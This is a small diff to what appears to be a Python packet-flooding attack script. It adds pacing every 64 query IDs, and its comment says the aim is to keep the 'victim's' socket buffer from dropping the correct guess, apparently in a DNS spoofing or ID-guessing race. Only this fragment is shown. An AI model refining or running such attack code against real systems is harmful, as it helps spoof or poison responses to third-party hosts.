@@ -53,6 +53,9 @@ def main():
                         raise
                     time.sleep(0.0005)
             sent += 1
+            if qid % 64 == 63:
+                # Paced, so that the victim's socket buffer does not overflow and drop the right guess.
+                time.sleep(0.0002)
     print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - start, 3)}), flush=True)
 
 
